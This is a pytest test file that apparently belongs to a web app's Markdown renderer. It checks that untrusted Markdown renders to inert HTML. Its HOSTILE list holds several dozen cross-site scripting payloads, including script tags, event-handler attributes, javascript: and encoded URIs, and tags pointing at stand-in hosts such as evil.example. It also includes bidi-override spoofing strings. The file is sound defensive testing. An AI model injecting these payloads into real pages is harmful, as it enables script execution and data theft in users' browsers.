"""render_markdown: untrusted Markdown in, inert HTML out (a hostile corpus)."""

from __future__ import annotations

import time

import pytest
from bs4 import BeautifulSoup

from judgeloop.web.render import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, render_markdown

HOSTILE = [
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="window.__pwned=1">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:red">cover</div>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](https://tracker.example/p.gif)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="javascript:alert(1)">x</a>',
    "<form action=https://evil.example><input name=q></form>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    '[x](https://ok.example "title" onmouseover=alert(1))',
    '```js" onmouseover="alert(1)\nalert(1)\n```',
    "<details open ontoggle=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](&#106;avascript:alert(1))",
    "[x](%6A%61%76%61script:alert(1))",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
]

URL_ATTRS = ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc")


def assert_inert(html: str) -> BeautifulSoup:
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in ALLOWED_TAGS, tag
        allowed = ALLOWED_ATTRIBUTES.get(tag.name, set()) | ({"rel"} if tag.name == "a" else set())
        for attr, value in tag.attrs.items():
            assert attr in allowed, (tag.name, attr)
            assert not attr.lower().startswith("on")
            if attr in URL_ATTRS:
                assert str(value).startswith(("http://", "https://", "mailto:")), value
        if tag.name == "a":
            assert tag.get("rel") == LINK_REL.split()
    lowered = html.lower()
    for needle in ("<script", "<iframe", "<svg", "<style", "<img", "<object", "<form"):
        assert needle not in lowered
    return soup


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_inert(source: str) -> None:
    html = str(render_markdown(source))
    assert_inert(html)
    for tag in BeautifulSoup(html, "html.parser").find_all("a"):
        assert "javascript" not in str(tag.get("href", "")).lower()


def test_whole_corpus_at_once_renders_inert() -> None:
    assert_inert(str(render_markdown("\n\n".join(HOSTILE))))


def test_raw_html_is_shown_as_text() -> None:
    html = str(render_markdown("<script>alert(1)</script>"))
    assert "&lt;script&gt;" in html
    assert BeautifulSoup(html, "html.parser").get_text().strip() == "<script>alert(1)</script>"


def test_ordinary_markdown_survives() -> None:
    source = (
        "# Title\n\n**bold** _em_ ~~gone~~ `code`\n\n"
        "- one\n- two\n\n3. three\n\n> quote\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "```python\nprint('hi')\n```\n\n"
        "[site](https://example.org) <https://example.org/auto> [mail](mailto:a@example.org)"
    )
    soup = assert_inert(str(render_markdown(source)))
    assert soup.h1 is not None and soup.h1.get_text() == "Title"
    assert soup.find("strong") and soup.find("em") and soup.find("s")
    assert soup.find("ol", start="3")
    assert [th["class"] for th in soup.find_all("th")] == [["align-left"], ["align-right"]]
    assert soup.find("code", class_="language-python")
    hrefs = [a["href"] for a in soup.find_all("a")]
    assert hrefs == ["https://example.org", "https://example.org/auto", "mailto:a@example.org"]


def test_images_become_links_and_fetch_nothing() -> None:
    soup = assert_inert(str(render_markdown("![a chart](https://example.org/c.png)")))
    link = soup.find("a")
    assert link is not None
    assert link.get_text() == "[image: a chart]"
    assert link["href"] == "https://example.org/c.png"


def test_relative_and_odd_links_lose_their_target() -> None:
    soup = assert_inert(str(render_markdown("[out](/logout) [ftp](ftp://x.example/f) [p](?a=1)")))
    assert all(a.get("href") is None for a in soup.find_all("a"))


def test_bidi_overrides_are_made_visible() -> None:
    html = str(render_markdown("safe \u202etxt.exe\u202c and \u2067isolate\u2069"))
    for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        assert char not in html
    assert "[U+202E]txt.exe[U+202C]" in html
    assert "[U+2067]isolate[U+2069]" in html


def test_empty_and_none_render_nothing() -> None:
    assert str(render_markdown("")) == ""
    assert str(render_markdown(None)) == ""


def test_one_megabyte_answer_renders_quickly_and_inert() -> None:
    chunk = "<img src=x onerror=alert(1)> [x](javascript:alert(1)) " + "w" * 200 + "\n\n"
    source = (chunk * (1_000_000 // len(chunk) + 1))[:1_000_000]
    start = time.perf_counter()
    html = str(render_markdown(source))
    elapsed = time.perf_counter() - start
    assert elapsed < 10
    soup = assert_inert(html)
    assert soup.find("a", href=True) is None


def test_one_long_line_is_kept_as_text() -> None:
    html = str(render_markdown("x" * 1_000_000))
    assert html.count("x") == 1_000_000


def test_finalize_shows_bidi_in_plain_strings_only() -> None:
    from markupsafe import Markup

    from judgeloop.web.render import finalize_output, show_bidi_controls

    assert show_bidi_controls("a\u202eb") == "a[U+202E]b"
    assert finalize_output("name \u2067x\u2069") == "name [U+2067]x[U+2069]"
    assert finalize_output(Markup("<b>\u202e</b>")) == Markup("<b>\u202e</b>")
    assert finalize_output(3) == 3
